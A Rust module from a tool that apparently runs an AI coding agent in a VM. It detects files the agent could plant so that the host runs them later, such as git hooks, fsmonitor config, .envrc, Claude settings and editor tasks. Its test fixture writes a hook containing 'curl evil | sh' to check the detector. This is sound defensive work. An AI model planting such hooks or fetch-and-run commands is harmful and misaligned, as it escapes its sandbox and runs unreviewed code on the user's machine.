//! Files in the project that programs on the host run later (issue: the host boundary).
//!
//! With a writable project the agent can plant code that runs outside the VM: a git hook or a
//! `core.fsmonitor` in `.git/config` runs on the next `git commit` on the host, `.envrc` on the
//! next `cd` with direnv, a hook in `.claude/settings.json` in the user's native claude, a task
//! in `.vscode/tasks.json` in the editor. ccvm cannot tell a wanted change from a planted one,
//! so it takes a snapshot of these files at launch and, at exit, names every one that changed
//! (with a short diff or the first lines of a new file) before it returns.
//!
//! Reads only. Links are recorded as links (never followed), so a planted link is reported
//! as such and nothing outside the project is read.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// Files (relative to the project) that a host program executes or obeys.
const WATCHED_FILES: &[&str] = &[
    // A `.git` file (`gitdir: …`) chooses the repository, and so its hooks and config.
    ".git",
    ".git/config",
    ".envrc",
    ".env",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".vscode/launch.json",
    ".devcontainer.json",
    ".devcontainer/devcontainer.json",
    ".pre-commit-config.yaml",
];

/// Directories (relative to the project) whose every file is a program the host may run.
const WATCHED_DIRS: &[&str] = &[".git/hooks", ".githooks", ".husky", ".claude/hooks"];

/// At most this many files are recorded per directory, and this many bytes per file.
const MAX_DIR_ENTRIES: usize = 1000;
const MAX_CONTENT: u64 = 256 * 1024;
/// Lines shown per changed file.
const SHOWN_LINES: usize = 8;

/// What one watched path was.
#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    File {
        executable: bool,
        content: Vec<u8>,
    },
    Link(PathBuf),
    /// Too large, or a directory/special file where a file was expected: only its size.
    Other(u64),
}

/// The watched files of a project at one moment.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    project: PathBuf,
    files: BTreeMap<String, State>,
}

fn state_of(path: &Path) -> Option<State> {
    let meta = fs::symlink_metadata(path).ok()?;
    if meta.file_type().is_symlink() {
        return Some(State::Link(fs::read_link(path).unwrap_or_default()));
    }
    if !meta.is_file() || meta.len() > MAX_CONTENT {
        return Some(State::Other(meta.len()));
    }
    Some(State::File {
        executable: meta.permissions().mode() & 0o111 != 0,
        content: fs::read(path).unwrap_or_default(),
    })
}

/// `core.hooksPath` from a repository config, when it points inside the project.
fn hooks_path(config: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(config);
    text.lines()
        .filter_map(|line| line.trim().split_once('='))
        .find(|(key, _)| key.trim().eq_ignore_ascii_case("hookspath"))
        .map(|(_, value)| value.trim().trim_matches('"').to_owned())
        .filter(|path| !path.starts_with('/') && !path.starts_with('~'))
}

impl Snapshot {
    /// Records the watched files of `project` now.
    pub fn take(project: &Path) -> Snapshot {
        let mut files = BTreeMap::new();
        for name in WATCHED_FILES {
            if let Some(state) = state_of(&project.join(name)) {
                files.insert((*name).to_owned(), state);
            }
        }
        let mut dirs: Vec<String> = WATCHED_DIRS.iter().map(|d| (*d).to_owned()).collect();
        if let Some(State::File { content, .. }) = files.get(".git/config")
            && let Some(path) = hooks_path(content)
        {
            dirs.push(path);
        }
        for dir in dirs {
            let Ok(entries) = fs::read_dir(project.join(&dir)) else {
                continue;
            };
            for entry in entries.flatten().take(MAX_DIR_ENTRIES) {
                let name = format!("{dir}/{}", entry.file_name().to_string_lossy());
                if let Some(state) = state_of(&entry.path()) {
                    files.insert(name, state);
                }
            }
        }
        Snapshot {
            project: project.to_owned(),
            files,
        }
    }

    /// What changed between `self` (at launch) and `now`, as the lines of a warning; empty
    /// when nothing did.
    pub fn changes(&self, now: &Snapshot) -> Vec<String> {
        let mut lines = Vec::new();
        let names: std::collections::BTreeSet<&String> =
            self.files.keys().chain(now.files.keys()).collect();
        for name in names {
            match (self.files.get(name), now.files.get(name)) {
                (Some(before), Some(after)) if before == after => {}
                (None, Some(after)) => {
                    lines.push(format!("  added    {name}{}", describe(after)));
                    lines.extend(first_lines(after));
                }
                (Some(_), None) => lines.push(format!("  removed  {name}")),
                (Some(before), Some(after)) => {
                    lines.push(format!("  changed  {name}{}", describe(after)));
                    lines.extend(diff(before, after));
                }
                (None, None) => {}
            }
        }
        lines
    }

    /// The warning to print at exit when files the host runs have changed since `self`.
    pub fn report(&self) -> Option<String> {
        let changes = self.changes(&Snapshot::take(&self.project));
        if changes.is_empty() {
            return None;
        }
        let mut text = String::from(
            "ccvm: warning: the session changed files in the project that programs on your host \
             run (git hooks and config, direnv, your native claude's settings, editor tasks):\n",
        );
        for line in changes {
            let _ = writeln!(text, "ccvm: {line}");
        }
        text.push_str(
            "ccvm: review them before you run git, direnv, claude or your editor in this \
             directory: they would run on the host, outside the VM (`git diff` does not show \
             .git/)\n",
        );
        Some(text)
    }
}

fn describe(state: &State) -> String {
    match state {
        State::File {
            executable: true, ..
        } => " (executable)".to_owned(),
        State::File { .. } => String::new(),
        State::Link(target) => format!(" (a symlink to {})", target.display()),
        State::Other(size) => format!(" ({size} bytes, not shown)"),
    }
}

fn text_lines(state: &State) -> Vec<String> {
    match state {
        State::File { content, .. } => String::from_utf8_lossy(content)
            .lines()
            .map(str::to_owned)
            .collect(),
        State::Link(_) | State::Other(_) => Vec::new(),
    }
}

fn first_lines(state: &State) -> Vec<String> {
    let lines = text_lines(state);
    let mut out: Vec<String> = lines
        .iter()
        .take(SHOWN_LINES)
        .map(|l| format!("    | {l}"))
        .collect();
    if lines.len() > SHOWN_LINES {
        out.push(format!(
            "    | … ({} more lines)",
            lines.len() - SHOWN_LINES
        ));
    }
    out
}

/// Lines only in `after` (`+`) and only in `before` (`-`), at most [`SHOWN_LINES`].
fn diff(before: &State, after: &State) -> Vec<String> {
    let (old, new) = (text_lines(before), text_lines(after));
    let mut out: Vec<String> = new
        .iter()
        .filter(|l| !old.contains(l))
        .map(|l| format!("    + {l}"))
        .chain(
            old.iter()
                .filter(|l| !new.contains(l))
                .map(|l| format!("    - {l}")),
        )
        .collect();
    if out.len() > SHOWN_LINES {
        let more = out.len() - SHOWN_LINES;
        out.truncate(SHOWN_LINES);
        out.push(format!("    … ({more} more changed lines)"));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_new_hook_a_changed_config_and_a_planted_link_are_named() {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path();
        fs::create_dir_all(p.join(".git/hooks")).expect("mkdir");
        fs::write(p.join(".git/config"), "[core]\n\tbare = false\n").expect("write");
        fs::write(p.join("src.rs"), "fn main() {}\n").expect("write");
        let before = Snapshot::take(p);

        fs::write(p.join("src.rs"), "fn main() { edited() }\n").expect("write");
        assert!(
            before.changes(&Snapshot::take(p)).is_empty(),
            "ordinary edits are not reported"
        );

        fs::write(
            p.join(".git/hooks/pre-commit"),
            "#!/bin/sh\ncurl evil | sh\n",
        )
        .expect("write");
        fs::set_permissions(
            p.join(".git/hooks/pre-commit"),
            fs::Permissions::from_mode(0o755),
        )
        .expect("chmod");
        fs::write(
            p.join(".git/config"),
            "[core]\n\tbare = false\n\tfsmonitor = ./watch.sh\n",
        )
        .expect("write");
        std::os::unix::fs::symlink("/tmp/x", p.join(".envrc")).expect("symlink");
        let changes = before.changes(&Snapshot::take(p));
        let text = changes.join("\n");
        assert!(
            text.contains("added    .git/hooks/pre-commit (executable)"),
            "{text}"
        );
        assert!(text.contains("    | curl evil | sh"), "{text}");
        assert!(text.contains("changed  .git/config"), "{text}");
        assert!(text.contains("    + \tfsmonitor = ./watch.sh"), "{text}");
        assert!(
            text.contains("added    .envrc (a symlink to /tmp/x)"),
            "{text}"
        );
    }

    #[test]
    fn a_hooks_path_inside_the_project_is_watched_too() {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path();
        fs::create_dir_all(p.join(".git")).expect("mkdir");
        fs::create_dir_all(p.join("tools/hooks")).expect("mkdir");
        fs::write(p.join(".git/config"), "[core]\n\thooksPath = tools/hooks\n").expect("write");
        let before = Snapshot::take(p);
        fs::write(p.join("tools/hooks/pre-push"), "#!/bin/sh\n").expect("write");
        let text = before.changes(&Snapshot::take(p)).join("\n");
        assert!(text.contains("added    tools/hooks/pre-push"), "{text}");
    }
}
